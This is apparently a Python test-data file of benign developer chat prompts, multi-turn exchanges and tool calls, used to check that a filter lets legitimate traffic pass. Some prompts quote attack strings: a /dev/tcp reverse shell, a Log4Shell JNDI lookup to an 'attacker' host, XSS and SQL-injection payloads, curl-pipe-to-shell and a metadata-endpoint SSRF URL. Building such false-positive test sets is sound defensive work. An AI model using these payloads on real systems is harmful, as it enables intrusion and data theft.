"""Benign chat prompts: what engineers actually paste into a chat assistant.

Hand-written; make_corpus.py wraps them into requests (chat completions, Responses API,
legacy completions, content parts, multi-turn histories) with realistic SDK headers.
"""

SQL = [
    "What's the difference between UNION and UNION ALL? For example `SELECT name FROM a UNION ALL SELECT name FROM b` — how do I sort the result?",
    "T-SQL: I tried `WAITFOR DELAY '00:00:05'` inside a loop to throttle a batch job but the transaction log keeps growing. Why?",
    "How do I safely drop a table in Postgres only if it exists? Is `DROP TABLE IF EXISTS users CASCADE;` dangerous in prod?",
    "Write a stored procedure in SQL Server that takes @CustomerId and returns the last 10 orders, using SET NOCOUNT ON.",
    "Why does `SELECT * FROM orders WHERE status = 'open' OR 1=1` return every row? I found this in a legacy report query.",
    "Explain what SQL injection is with the classic example `' OR '1'='1' --` and show how parameterized queries fix it in Python.",
    "MySQL: `SELECT SLEEP(5)` is showing up in our slow query log. Is this an attack or could it be a health check?",
    "How do I write a recursive CTE in Postgres to walk an employee -> manager hierarchy?",
    "My query `SELECT id, name FROM users WHERE email LIKE '%@example.com' ORDER BY created_at DESC LIMIT 50;` is slow. Which index helps?",
    "Difference between `DELETE FROM logs WHERE ts < now() - interval '30 days'` and `TRUNCATE logs`?",
    "In Oracle, how do I use `DBMS_OUTPUT.PUT_LINE` to debug a PL/SQL block?",
    "Can you explain `INSERT ... ON CONFLICT (id) DO UPDATE SET name = EXCLUDED.name` in Postgres?",
    "What does `information_schema.columns` contain and how do I list all columns of table `orders` in MySQL?",
    "How can I find duplicate rows: `SELECT email, COUNT(*) FROM users GROUP BY email HAVING COUNT(*) > 1;` then delete all but the newest?",
    "SQLite: why does `ALTER TABLE t DROP COLUMN c` fail on my version?",
    "Convert this to a LEFT JOIN: SELECT a.id, b.total FROM accounts a, balances b WHERE a.id = b.account_id(+)",
    "What is the equivalent of `TOP 10` in Postgres and MySQL?",
    "Explain isolation levels: READ COMMITTED vs REPEATABLE READ vs SERIALIZABLE with an example of a phantom read.",
    "How do I grant read-only access: `GRANT SELECT ON ALL TABLES IN SCHEMA public TO analyst;` and make it apply to future tables?",
    "Window functions: how do I compute a running total with `SUM(amount) OVER (PARTITION BY user_id ORDER BY ts)`?",
    "EXEC sp_executesql with parameters — show me the right way to build dynamic SQL in T-SQL without injection.",
    "Is `CHAR(65)` in SQL Server the same as ASCII 'A'? What about `NCHAR`?",
    "How to pivot rows into columns in SQL Server with PIVOT, e.g. months as columns?",
    "Postgres `pg_sleep(2)` in a test fixture — is there a better way to wait for replication?",
    "Our DBA says `xp_cmdshell` must be disabled. What does it do and how do I check if it's enabled?",
    "Explain `EXPLAIN ANALYZE SELECT * FROM t WHERE a = 1 AND b > 10;` output — what is a Bitmap Heap Scan?",
    "Write a migration that renames column `user_name` to `username` and keeps a view for backward compatibility.",
    "BigQuery: how do I UNNEST an array column and join it back? `SELECT id, tag FROM t, UNNEST(tags) AS tag`",
    "In a Snowflake MERGE statement, how do I handle `WHEN NOT MATCHED BY SOURCE THEN DELETE`?",
    "How do I write `SELECT ... FOR UPDATE SKIP LOCKED` to build a job queue in Postgres?",
    "I need a query that returns the second highest salary: SELECT MAX(salary) FROM emp WHERE salary < (SELECT MAX(salary) FROM emp); is there a cleaner way?",
    "Why is `WHERE name = NULL` never true but `WHERE name IS NULL` works?",
    "Can you review this: `UPDATE accounts SET balance = balance - 100 WHERE id = 7; UPDATE accounts SET balance = balance + 100 WHERE id = 9;` — should it be in a transaction?",
]

WEB = [
    "What's the difference between `<script defer>` and `<script async>`?",
    "In React, why does `<button onClick={handleClick()}>` call the function on render instead of on click?",
    "Is setting `element.innerHTML = userInput` dangerous? What should I use instead?",
    "How do I add an `onerror` fallback to an `<img src=\"avatar.png\">` so a default image is shown?",
    "Explain Content-Security-Policy `script-src 'self' 'nonce-abc123'` and how to use nonces with inline `<script>` tags.",
    "My `<iframe src=\"https://example.com\" sandbox>` can't run scripts. Which sandbox flags do I need?",
    "Vue: what's the difference between `v-html` and `{{ }}` interpolation regarding XSS?",
    "Why does `document.cookie = \"theme=dark; path=/; max-age=31536000\"` not persist in Safari?",
    "How do I escape `<` and `>` when rendering user comments in a Jinja2 template? Is `{{ comment | e }}` enough?",
    "Write a small HTML form with `<input type=\"email\" required>` and client-side validation in vanilla JS.",
    "What does `javascript:void(0)` in an `<a href>` do and why do linters complain?",
    "How do I attach an event listener: `window.addEventListener('load', init)` vs `<body onload=\"init()\">`?",
    "Angular warns 'sanitizing HTML stripped some content'. How do I use DomSanitizer.bypassSecurityTrustHtml safely?",
    "CSS question: how do I center a div with flexbox? `display:flex; justify-content:center; align-items:center;`",
    "Explain how DOMPurify.sanitize('<img src=x onerror=alert(1)>') neutralises that payload.",
    "What is the SVG `<animate>` element and can I use `onbegin` to trigger JS when an animation starts?",
    "In Next.js, how do I use `dangerouslySetInnerHTML={{ __html: markdownHtml }}` with a markdown renderer safely?",
    "jQuery: `$('#out').html(data)` vs `$('#out').text(data)` — which one is XSS safe?",
    "How do I write a bookmarklet? It starts with `javascript:(function(){ ... })();` right?",
    "Why does `fetch('/api', { credentials: 'include' })` not send cookies cross-origin?",
    "How do I set `<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'self'\">` and is a header better?",
    "Explain `addEventListener('click', fn, { once: true, passive: true })` options.",
    "Template literal question: ``const html = `<li>${item.name}</li>`;`` — is this injectable if name comes from the API?",
    "How do I load a script dynamically: `const s = document.createElement('script'); s.src = url; document.head.appendChild(s);`?",
    "Svelte `{@html content}` — when is it OK to use?",
    "What's the modern replacement for `document.write('<p>hello</p>')`?",
    "In HTML email, can I use `<style>` blocks or must CSS be inline?",
    "Write a web component with a shadow root: `this.attachShadow({mode: 'open'}).innerHTML = '<slot></slot>'`.",
]

SHELL = [
    "Is `rm -rf /tmp/build/*` safe in a CI script if the variable is empty? e.g. `rm -rf \"$BUILD_DIR\"/*`",
    "Why do people say never run `curl https://get.example.sh | sh`? What's a safer way to install?",
    "Explain `find . -name '*.log' -mtime +7 -exec rm {} \\;` vs using `-delete`.",
    "How do I capture command output in bash: `files=$(ls -1 /var/log | wc -l)` or backticks?",
    "What does `2>&1 | tee build.log` do at the end of a command?",
    "My cron line `0 3 * * * /usr/local/bin/backup.sh > /dev/null 2>&1` doesn't run. How do I debug cron?",
    "How do I grep recursively excluding node_modules: `grep -rn \"TODO\" --exclude-dir=node_modules .`?",
    "Write a bash loop that retries `curl -fsS http://localhost:8080/health` five times with sleep 2.",
    "What's the difference between `cat file | grep foo` and `grep foo file`?",
    "How do I find which process listens on port 443: `ss -ltnp | grep :443` or `lsof -i :443`?",
    "Explain `chmod 600 ~/.ssh/id_rsa` — why does ssh refuse keys with 644?",
    "How do I use `xargs -P 4` to run `gzip` on many files in parallel?",
    "sed question: `sed -i 's/foo/bar/g' *.txt` works on Linux but fails on macOS. Why?",
    "What does `set -euo pipefail` do at the top of a bash script?",
    "Using awk: `awk -F, '{sum += $3} END {print sum}' sales.csv` prints nothing. What's wrong?",
    "How do I tar and compress a directory excluding .git: `tar --exclude=.git -czf app.tgz app/`?",
    "Explain `nc -zv db.internal 5432` for checking if a port is open.",
    "How do I make a systemd service that runs `python3 -m http.server 8000` in /srv/www?",
    "What's `exec \"$@\"` at the end of a Docker entrypoint script for?",
    "bash: `for f in *.jpg; do convert \"$f\" -resize 50% \"small_$f\"; done` — how do I parallelize it?",
    "How do I see environment variables of a running process? `cat /proc/<pid>/environ | tr '\\0' '\\n'`",
    "What does `kill -9 $(pgrep -f myworker)` do and why is SIGTERM preferred?",
    "Write a one-liner to count unique IPs in an nginx access log: `awk '{print $1}' access.log | sort | uniq -c | sort -rn | head`",
    "Is `sudo chown -R www-data:www-data /var/www/html` the right permission setup for WordPress?",
    "How do I base64 encode a file without line wraps: `base64 -w0 cert.pem`?",
    "Makefile: why does `$(shell git rev-parse --short HEAD)` run every time?",
    "How do I run `ssh -L 5432:localhost:5432 bastion` in the background and close it later?",
    "What's the difference between `source env.sh` and `./env.sh`?",
    "How do I check the exit code of the first command in a pipe: `cmd1 | cmd2; echo ${PIPESTATUS[0]}`?",
    "dd question: `dd if=/dev/zero of=test.img bs=1M count=100` — how do I show progress?",
]

PATHS = [
    "What permissions should `/etc/passwd` and `/etc/shadow` have on Ubuntu, and why is shadow not world-readable?",
    "In Node, `path.join(base, '../uploads', name)` — how do I stop `name` from escaping with `..\\` on Windows?",
    "Why does my Python `open('../config/settings.yaml')` fail when run from cron but work from the shell?",
    "How do I read `C:\\Windows\\System32\\drivers\\etc\\hosts` from PowerShell and add an entry?",
    "What is `/proc/self/exe` and why does my Go binary use it to find its own path?",
    "Nginx: `location ~ /\\.git { deny all; }` — is this enough to protect the .git folder?",
    "How do I normalise paths in Java so `../../` can't escape the upload directory? `Path.normalize()` and `startsWith`?",
    "Where does Docker store `/var/lib/docker/overlay2` and how do I clean it up?",
    "Why does `ls ~/.ssh/` show `known_hosts.old`? Can I delete it?",
    "My app reads `.env` with dotenv, but in production the variables come from the environment. How do I prioritise?",
    "On Windows, what's the difference between `%APPDATA%` and `%LOCALAPPDATA%`?",
    "What is `/var/run/secrets/kubernetes.io/serviceaccount/token` and should my pod mount it?",
]

CODE = [
    "PHP: why is `eval($_GET['code'])` a terrible idea, and what's a safe alternative for a calculator feature?",
    "In PHP 8, how do I use `password_hash()` and `password_verify()` correctly?",
    "Laravel: explain `DB::select('select * from users where id = ?', [$id])` vs string concatenation.",
    "What does `<?php echo htmlspecialchars($name, ENT_QUOTES, 'UTF-8'); ?>` protect against?",
    "PHP `unserialize()` on cookie data — our scanner flagged it. What's the risk and what should I use instead?",
    "Symfony: how do I configure a custom `security.yaml` firewall for an API with JWT?",
    "Java: how do I run an external command with `ProcessBuilder` and read its stdout without deadlocking?",
    "Spring Boot: what's the difference between `@RestController` and `@Controller` + `@ResponseBody`?",
    "Why does `Runtime.getRuntime().exec(\"ls -la\")` not support pipes? How do I run `ls | grep foo` from Java?",
    "Java deserialization: why is `ObjectInputStream.readObject()` on untrusted data dangerous, and what is an allow-list filter?",
    "Explain Spring Expression Language: `@Value(\"#{systemProperties['user.home']}\")`.",
    "Kotlin coroutines: `launch` vs `async` — when do I need `await()`?",
    "Python: `subprocess.run(['ls', '-l'], capture_output=True, text=True)` vs `os.system('ls -l')` — which is safer?",
    "What's wrong with `pickle.loads(request.data)` in a Flask endpoint?",
    "How do I write a Python decorator that retries a function 3 times on `requests.exceptions.Timeout`?",
    "Explain Python's `__import__('os')` vs `importlib.import_module('os')`.",
    "Pandas: `df.groupby('region')['sales'].sum().sort_values(ascending=False)` — how do I keep the top 5 per region?",
    "FastAPI: how do I return a 403 with a JSON body `{\"detail\": \"forbidden\"}` from a dependency?",
    "Python type hints: what's the difference between `list[str]` and `List[str]`?",
    "asyncio: why does `asyncio.run(main())` complain 'event loop is already running' in Jupyter?",
    "Node.js: `child_process.exec('git status', cb)` vs `execFile('git', ['status'])` — why is execFile safer?",
    "What is prototype pollution? Explain with `Object.assign({}, JSON.parse('{\"__proto__\": {\"isAdmin\": true}}'))`.",
    "Express: how do I validate `req.query.page` is a positive integer?",
    "Node: how do I read a big file line by line with `readline.createInterface({ input: fs.createReadStream(path) })`?",
    "Why does `require('fs').readFileSync` block the event loop, and when is it acceptable?",
    "TypeScript: how do I type a function that accepts `string | string[]` and always returns `string[]`?",
    "Go: how do I run `exec.Command(\"sh\", \"-c\", cmd)` with a timeout using context?",
    "Rust: why does the borrow checker reject `let first = &v[0]; v.push(4);`?",
    "Rust: how do I read a file to a String with `std::fs::read_to_string` and handle the error with `?`",
    "C: is `strcpy(buf, argv[1])` a buffer overflow? What should I use instead?",
    "C++: explain `std::unique_ptr<T>` vs `std::shared_ptr<T>` with an example.",
    "Ruby on Rails: `User.where(\"name = '#{params[:name]}'\")` — how do I rewrite this safely?",
    "C#: how do I use `SqlCommand` with parameters: `cmd.Parameters.AddWithValue(\"@id\", id)`?",
    "Jinja2: why does `{{ config.items() }}` show my Flask config in a template? Is that an SSTI risk?",
    "Explain Thymeleaf's `th:utext` vs `th:text`.",
    "Python f-string: how do I print a literal brace: f\"{{value}} is {value}\"?",
]

WINDOWS = [
    "PowerShell: how do I list services that are stopped: `Get-Service | Where-Object {$_.Status -eq 'Stopped'}`?",
    "What does `cmd /c dir C:\\Users /s /b > files.txt` do?",
    "How do I run `net user` to see local accounts, and what does `net localgroup administrators` show?",
    "PowerShell execution policy: is `Set-ExecutionPolicy -Scope CurrentUser RemoteSigned` safe?",
    "Explain `Invoke-WebRequest -Uri https://example.com/file.zip -OutFile file.zip` vs `curl.exe`.",
    "How do I schedule a task: `schtasks /create /tn Backup /tr C:\\scripts\\backup.bat /sc daily /st 02:00`?",
    "What does `certutil -hashfile installer.msi SHA256` print and how do I compare it?",
    "Batch file: why does `set PATH=%PATH%;C:\\tools` inside a for loop not work without delayed expansion?",
    "How do I read the registry key `HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion` in PowerShell?",
    "What does `ipconfig /flushdns` actually do?",
    "Robocopy: `robocopy C:\\src D:\\dst /MIR /R:2 /W:5` — is /MIR dangerous?",
    "Why does `Start-Process powershell -Verb RunAs` open a UAC prompt?",
]

SECURITY = [
    "Explain Log4Shell: how did `${jndi:ldap://attacker/a}` in a User-Agent lead to remote code execution?",
    "Our SIEM logged requests containing `${${lower:j}ndi:...}`. What are these obfuscations and are we vulnerable on log4j 2.17.1?",
    "What is Spring4Shell and why did `class.module.classLoader` parameters matter?",
    "How does a WAF anomaly scoring mode work in OWASP CRS, and what's paranoia level 2?",
    "What is HTTP request smuggling? Explain CL.TE with a diagram.",
    "Explain CRLF injection and why `%0d%0aSet-Cookie:` in a redirect parameter is dangerous.",
    "How do I write a Semgrep rule that flags `exec(` calls with user input in Python?",
    "What's the OWASP Top 10 2021 item A03 (Injection) and how does it relate to XSS?",
    "How should I store API keys for a GitHub Actions workflow? Secrets vs OIDC?",
    "Explain the difference between a reflected and a stored XSS with an example like `<script>alert(document.cookie)</script>`.",
    "What is SSRF and why is `http://169.254.169.254/latest/meta-data/` a common target?",
    "How does the Struts OGNL vulnerability CVE-2017-5638 work with the Content-Type header?",
    "What's a path traversal? Give an example with `../../etc/passwd` and how to prevent it in Go.",
    "We got a pentest finding: 'reverse shell via `bash -i >& /dev/tcp/10.0.0.1/4444 0>&1`'. How does that one-liner work?",
    "What does sqlmap's `--level` and `--risk` mean when testing my own staging API?",
]

MISC = [
    "Write a regex that matches an IPv4 address: `^(?:(?:25[0-5]|2[0-4]\\d|1?\\d?\\d)\\.){3}(?:25[0-5]|2[0-4]\\d|1?\\d?\\d)$`. Is it correct?",
    "Regex for email validation — is `^[^@\\s]+@[^@\\s]+\\.[^@\\s]+$` good enough?",
    "What does the regex `(?<=\\$)\\d+(?:\\.\\d{2})?` match?",
    "Explain this JSON Schema: `{\"type\": \"object\", \"properties\": {\"id\": {\"type\": \"integer\"}}, \"required\": [\"id\"]}`",
    "How do I pretty-print JSON with jq: `cat data.json | jq '.items[] | {id, name}'`?",
    "YAML gotcha: why does `country: NO` become false?",
    "Kubernetes: my pod is in CrashLoopBackOff. `kubectl logs pod/api-7d9f --previous` shows 'permission denied'. Where do I start?",
    "Terraform: how do I import an existing S3 bucket into state?",
    "Explain git rebase vs merge, and what `git rebase -i HEAD~3` does.",
    "How do I undo the last commit but keep the changes: `git reset --soft HEAD~1`?",
    "Write a Dockerfile for a Python app with a non-root user and a multi-stage build.",
    "What's the difference between TCP keepalive and HTTP keep-alive?",
    "Explain CAP theorem in two paragraphs.",
    "How do I write a unit test for a function that calls `datetime.now()`?",
    "Markdown: how do I put a code fence inside a code fence?\n\n````markdown\n```python\nprint('hi')\n```\n````",
    "Can you convert this curl to Python requests?\n\n```bash\ncurl -X POST https://api.example.com/v1/items -H 'Authorization: Bearer $TOKEN' -H 'Content-Type: application/json' -d '{\"name\": \"test\", \"qty\": 3}'\n```",
    "Summarise the main points of RFC 9110 section on idempotent methods.",
    "What's a good naming convention for feature flags?",
    "How do I compute p99 latency from a Prometheus histogram with `histogram_quantile(0.99, sum(rate(http_request_duration_seconds_bucket[5m])) by (le))`?",
    "Explain OAuth 2.0 PKCE flow step by step.",
    "Nginx config: `proxy_set_header X-Forwarded-For $proxy_add_x_forwarded_for;` — what does it append?",
    "Write a haiku about debugging at 3am.",
    "What's the time complexity of Python's `list.sort()`?",
    "Give me a checklist for reviewing a pull request.",
    "How do I use `COPY --chown=app:app . /app` in a Dockerfile?",
    "Compare gRPC and REST for internal microservices.",
    "What is the difference between `==` and `===` in JavaScript, e.g. `0 == ''` is true?",
    "Explain how `a && b || c` evaluates in bash and why it's not an if/else.",
    "I'm getting `TypeError: Cannot read properties of undefined (reading 'map')` in React. What's the usual cause?",
    "Help me write a commit message for: fixed off-by-one in pagination; added tests.",
]

NON_ENGLISH = [
    "Wie kann ich in PostgreSQL alle Tabellen eines Schemas auflisten? Ich habe `SELECT table_name FROM information_schema.tables WHERE table_schema = 'public';` versucht.",
    "Was ist der Unterschied zwischen `git pull --rebase` und `git pull`? Bitte kurz erklären.",
    "Kannst du mir erklären, warum `rm -rf ./build/*` in meinem Skript manchmal fehlschlägt?",
    "Comment puis-je éviter les injections SQL en PHP avec PDO ? Par exemple `$stmt = $pdo->prepare('SELECT * FROM users WHERE id = :id');`",
    "Quelle est la différence entre `<script async>` et `<script defer>` en HTML ?",
    "Pourquoi mon conteneur Docker ne peut pas écrire dans /var/log ? Permission refusée.",
    "¿Cómo puedo ordenar un diccionario por valor en Python? Probé `sorted(d.items(), key=lambda x: x[1])`.",
    "¿Qué significa el error 'ORA-00942: table or view does not exist' si la tabla sí existe?",
    "Explícame cómo funciona `UNION SELECT` en SQL y cuándo usar `UNION ALL`.",
    "如何在 Linux 上查看哪个进程占用了 8080 端口？我用了 `netstat -tulpn | grep 8080`。",
    "请解释一下 JavaScript 中的闭包，并给一个 `setTimeout` 的例子。",
    "SQL 里 `DELETE` 和 `TRUNCATE` 有什么区别？",
    "Pythonで `with open('data.csv', encoding='utf-8') as f:` を使うとき、BOM付きファイルはどう読めばいいですか？",
    "Reactの `useEffect(() => { ... }, [])` が2回実行されるのはなぜですか？",
    "シェルスクリプトで `$(date +%Y%m%d)` を使ってバックアップファイル名を作る方法を教えてください。",
    "Как в PostgreSQL посмотреть активные запросы? Я знаю про `SELECT * FROM pg_stat_activity;`",
    "Почему `chmod 777` на папку /var/www — плохая идея?",
    "Объясни разницу между процессом и потоком в Linux.",
    "كيف يمكنني حذف جميع حاويات Docker المتوقفة؟ هل الأمر `docker container prune` آمن؟",
    "ما الفرق بين GET و POST في HTTP؟",
    "Como faço para criar um índice único composto no MySQL? `CREATE UNIQUE INDEX idx ON t (a, b);`",
    "Come posso leggere un file JSON in Java con Jackson?",
    "Hoe kan ik in Bash controleren of een bestand bestaat: `if [ -f /etc/hosts ]; then ...`?",
    "Jak w Pythonie odczytać zmienną środowiskową z wartością domyślną? `os.environ.get('PORT', '8080')`",
    "Windows'ta `ipconfig /all` çıktısında DNS sunucusunu nasıl bulurum?",
    "리눅스에서 `tail -f /var/log/syslog | grep error` 를 계속 실행하려면 어떻게 하나요?",
    "Làm sao để viết câu lệnh SQL `SELECT * FROM orders WHERE created_at >= NOW() - INTERVAL 7 DAY`?",
    "איך אני מריץ סקריפט פייתון ברקע בלינוקס עם nohup?",
    "Πώς μπορώ να κάνω reverse ένα string στην Python;",
    "Hur konfigurerar jag nginx som reverse proxy för en Node-app på port 3000?",
]

# (user question, assistant answer with code, follow-up question)
MULTI_TURN = [
    (
        "How do I find the top 5 customers by revenue?",
        "You can aggregate and sort:\n\n```sql\nSELECT c.name, SUM(o.total) AS revenue\nFROM customers c\nJOIN orders o ON o.customer_id = c.id\nGROUP BY c.name\nORDER BY revenue DESC\nLIMIT 5;\n```\n\nIf you also want ties, use `DENSE_RANK() OVER (ORDER BY SUM(o.total) DESC)`.",
        "Thanks. How would I include customers with no orders, showing 0?",
    ),
    (
        "Show me how to render a list of links safely in vanilla JS.",
        "Avoid `innerHTML` with untrusted data. Build elements instead:\n\n```js\nfor (const item of items) {\n  const a = document.createElement('a');\n  a.href = item.url;\n  a.textContent = item.title;\n  a.addEventListener('click', (e) => track(e, item.id));\n  list.appendChild(a);\n}\n```\n\nIf you must use HTML strings, sanitize with DOMPurify: `list.innerHTML = DOMPurify.sanitize(html)`. Never do `<a href=\"javascript:...\">` or `onclick=\"...\"` with user data.",
        "What if item.url is `javascript:alert(1)`? Does setting href block it?",
    ),
    (
        "Write a bash script that backs up /etc to S3 nightly.",
        "Here's a minimal version:\n\n```bash\n#!/usr/bin/env bash\nset -euo pipefail\nstamp=$(date +%F)\ntar -czf \"/tmp/etc-$stamp.tgz\" /etc\naws s3 cp \"/tmp/etc-$stamp.tgz\" \"s3://my-backups/etc/\" && rm -f \"/tmp/etc-$stamp.tgz\"\n```\n\nAdd to cron: `0 2 * * * /usr/local/bin/backup-etc.sh >> /var/log/backup.log 2>&1`. Note `/etc/shadow` is included, so encrypt the bucket.",
        "Can you add a retention policy that deletes backups older than 30 days?",
    ),
    (
        "How do I prevent path traversal in a Flask download endpoint?",
        "Use `send_from_directory`, which rejects `..`:\n\n```python\nfrom flask import send_from_directory, abort\n\n@app.get('/files/<path:name>')\ndef download(name):\n    return send_from_directory(UPLOAD_DIR, name)  # '../../etc/passwd' -> 404\n```\n\nIf you build paths yourself: `full = os.path.realpath(os.path.join(UPLOAD_DIR, name)); if not full.startswith(UPLOAD_DIR + os.sep): abort(404)`.",
        "And on Windows where someone sends `..\\..\\boot.ini`?",
    ),
    (
        "Explain parameterized queries in PHP.",
        "With PDO:\n\n```php\n<?php\n$pdo = new PDO($dsn, $user, $pass, [PDO::ATTR_ERRMODE => PDO::ERRMODE_EXCEPTION]);\n$stmt = $pdo->prepare('SELECT id, email FROM users WHERE email = ? AND active = 1');\n$stmt->execute([$_POST['email']]);\n$user = $stmt->fetch();\n```\n\nNever interpolate: `\"SELECT * FROM users WHERE email = '$email'\"` lets `' OR '1'='1` through.",
        "How do I do the same with an IN (...) list of ids?",
    ),
    (
        "How do I run a shell command from Node and get its output?",
        "Prefer `execFile` with an argument array:\n\n```js\nconst { execFile } = require('child_process');\nexecFile('git', ['log', '-1', '--format=%H'], (err, stdout) => {\n  if (err) throw err;\n  console.log(stdout.trim());\n});\n```\n\n`exec('git log ' + userInput)` would pass `; rm -rf ~` to a shell.",
        "Is there a promise version I can await?",
    ),
    (
        "How do I read a Java serialized object safely?",
        "Use a deserialization filter (Java 9+):\n\n```java\nObjectInputFilter filter = ObjectInputFilter.Config.createFilter(\"com.example.dto.*;java.base/*;!*\");\ntry (ObjectInputStream in = new ObjectInputStream(stream)) {\n    in.setObjectInputFilter(filter);\n    Object o = in.readObject();\n}\n```\n\nGadget chains like `org.apache.commons.collections.functors.InvokerTransformer` are then rejected.",
        "Could I switch to JSON with Jackson instead? What settings avoid polymorphic typing issues?",
    ),
    (
        "What does this PowerShell do? `Get-ChildItem -Recurse -Filter *.log | Remove-Item`",
        "It finds every `.log` file under the current directory recursively and deletes it. Add `-WhatIf` to preview:\n\n```powershell\nGet-ChildItem -Recurse -Filter *.log | Remove-Item -WhatIf\n```\n\nOn cmd.exe the rough equivalent is `del /s /q *.log`.",
        "How do I only delete ones older than 14 days?",
    ),
    (
        "Can you write a Dockerfile healthcheck?",
        "Sure:\n\n```dockerfile\nHEALTHCHECK --interval=30s --timeout=3s --retries=3 \\\n  CMD curl -fsS http://localhost:8080/health || exit 1\n```\n\nIf the image has no curl, use `wget -qO- http://localhost:8080/health` or a tiny static binary.",
        "Our base image is distroless. What then?",
    ),
    (
        "Log4j: how do I check if we're vulnerable?",
        "Look for log4j-core < 2.17.1 on the classpath:\n\n```bash\nfind / -name 'log4j-core-*.jar' 2>/dev/null\nunzip -p app.jar META-INF/MANIFEST.MF | grep -i log4j\n```\n\nA probe string like `${jndi:ldap://canary.example/a}` in a header is what scanners send; only use it against systems you own. Mitigation for old versions: `-Dlog4j2.formatMsgNoLookups=true` (2.10+) or remove `JndiLookup.class`.",
        "We also have logback. Is it affected?",
    ),
    (
        "How do I escape HTML in Go templates?",
        "`html/template` escapes automatically:\n\n```go\ntmpl := template.Must(template.New(\"x\").Parse(`<p>{{.Name}}</p><a href=\"{{.URL}}\">link</a>`))\ntmpl.Execute(w, data) // <script> becomes &lt;script&gt;, javascript: URLs become #ZgotmplZ\n```\n\n`text/template` does not escape.",
        "What's ZgotmplZ exactly?",
    ),
    (
        "Write a SQL query to find orders placed in the last hour.",
        "```sql\n-- PostgreSQL\nSELECT * FROM orders WHERE created_at > now() - interval '1 hour';\n-- MySQL\nSELECT * FROM orders WHERE created_at > NOW() - INTERVAL 1 HOUR;\n-- SQL Server\nSELECT * FROM orders WHERE created_at > DATEADD(hour, -1, SYSUTCDATETIME());\n```",
        "And if created_at is stored as a unix timestamp integer?",
    ),
    (
        "How do I set a cookie securely in Express?",
        "```js\nres.cookie('session', token, {\n  httpOnly: true,\n  secure: true,\n  sameSite: 'lax',\n  maxAge: 24 * 60 * 60 * 1000,\n});\n```\n\nIn the browser, `document.cookie = 'a=b; expires=Fri, 31 Dec 2027 23:59:59 GMT; path=/'` can't set HttpOnly cookies.",
        "Should I also rotate the session id after login?",
    ),
    (
        "Give me a quick reverse proxy nginx config.",
        "```nginx\nserver {\n    listen 80;\n    server_name app.example.com;\n    location / {\n        proxy_pass http://127.0.0.1:3000;\n        proxy_set_header Host $host;\n        proxy_set_header X-Forwarded-For $proxy_add_x_forwarded_for;\n    }\n    location ~ /\\.(?!well-known) { deny all; }\n}\n```",
        "How do I add TLS with certbot to this?",
    ),
    (
        "Explain XSS payloads my pentester used: `<svg/onload=alert(1)>` and `\"><img src=x onerror=alert(1)>`.",
        "Both execute script via event handlers. `<svg/onload=...>` uses `/` as a separator instead of a space; the second closes an attribute (`\">`) and injects an `<img>` whose `src` fails so `onerror` runs. Output encoding (`&lt;`, `&quot;`) in the right context prevents both, and a CSP like `script-src 'self'` blocks inline handlers.",
        "Does React's JSX escaping cover the attribute case too?",
    ),
]

# Long technical histories: several turns, several KB.
LONG_CODE = '''```python
import logging
import os
import subprocess
from pathlib import Path

log = logging.getLogger(__name__)
BASE = Path(os.environ.get("DATA_DIR", "/var/lib/app")).resolve()


def safe_path(name: str) -> Path:
    p = (BASE / name).resolve()
    if BASE not in p.parents and p != BASE:
        raise ValueError(f"path escapes base: {name!r}")
    return p


def run(cmd: list[str]) -> str:
    log.info("running %s", cmd)
    out = subprocess.run(cmd, check=True, capture_output=True, text=True, timeout=30)
    return out.stdout


def rotate_logs(days: int = 7) -> None:
    run(["find", str(BASE / "logs"), "-name", "*.log", "-mtime", f"+{days}", "-delete"])


def export_users(conn) -> None:
    with conn.cursor() as cur:
        cur.execute("SELECT id, email FROM users WHERE deleted_at IS NULL ORDER BY id")
        for row in cur:
            print(row)
```'''

# Agentic conversations: the model called a tool (SQL, shell, HTTP, file search) and the
# tool answered; the arguments and results come back in every later request.
TOOL_CALLS = [
    ("run_sql", {"query": "SELECT o.id, o.total FROM orders o WHERE o.created_at > now() - interval '1 day' UNION ALL SELECT r.order_id, -r.amount FROM refunds r WHERE r.created_at > now() - interval '1 day';"},
     "id | total\n---+------\n17 | 120.00\n18 | -20.00", "How much did we make yesterday, net of refunds?"),
    ("run_shell", {"command": "find /var/log/nginx -name '*.log' -mtime +7 -exec rm {} \\; && df -h /var/log"},
     "Filesystem Size Used Avail Use% Mounted on\n/dev/sda1 50G 31G 19G 62% /", "Clean up old nginx logs on web-3 and tell me how much space is left."),
    ("http_get", {"url": "https://status.contoso.example/api/v2/components.json"},
     "{\"components\": [{\"name\": \"API\", \"status\": \"operational\"}]}", "Is the API up right now?"),
    ("search_files", {"pattern": "../config/*.yaml", "contains": "password:"},
     "config/db.yaml:3: password: ${DB_PASSWORD}", "Do any of our configs hard-code a password?"),
    ("run_sql", {"query": "EXEC sp_who2; WAITFOR DELAY '00:00:02'; SELECT * FROM sys.dm_exec_requests WHERE blocking_session_id <> 0;"},
     "session_id | blocking_session_id\n57 | 52", "Which session is blocking the nightly job?"),
    ("render_html", {"html": "<button onclick=\"toggle()\">Menu</button><script>function toggle(){document.body.classList.toggle('open')}</script>"},
     "Rendered preview saved to preview-42.png", "Make me a tiny hamburger-menu demo page."),
    ("run_powershell", {"script": "Get-ChildItem C:\\inetpub\\logs -Recurse | Where-Object {$_.LastWriteTime -lt (Get-Date).AddDays(-14)} | Remove-Item -WhatIf"},
     "What if: Performing the operation \"Remove File\" on target \"C:\\inetpub\\logs\\u_ex240101.log\".", "Which IIS logs would be deleted by a 14-day retention?"),
    ("grep_logs", {"regex": "\\$\\{jndi:(ldap|rmi|dns)://", "path": "/var/log/app/*.log"},
     "app-2024-12-10.log: 3 matches from 203.0.113.5", "Did anyone probe us with Log4Shell strings this week?"),
]

# Vision and file inputs: URLs and data: URLs in non-prompt fields that must pass.
PNG_B64 = "iVBORw0KGgoAAAANSUhEUgAAABAAAAAQCAYAAAAf8/9hAAAAMklEQVR4nGNgGAWjYBSMglEwCkbBKBgFo2AUjIJRMApGwSgYBaNgFIyCUTAKRsEoGAUjBQAAFeIDEdtn7HQAAAAASUVORK5CYII="
VISION = [
    ("What's wrong with this architecture diagram? The arrows from the WAF go the wrong way I think.", "https://wiki.contoso.example/images/arch/chatgate-v2.png"),
    ("Can you read the error in this screenshot?", "data:image/png;base64," + PNG_B64),
    ("Transcribe the SQL in this whiteboard photo: SELECT ... FROM orders", "https://files.contoso.example/uploads/whiteboard-2024-11-03.jpg?sig=ab12cd34&exp=1733400000"),
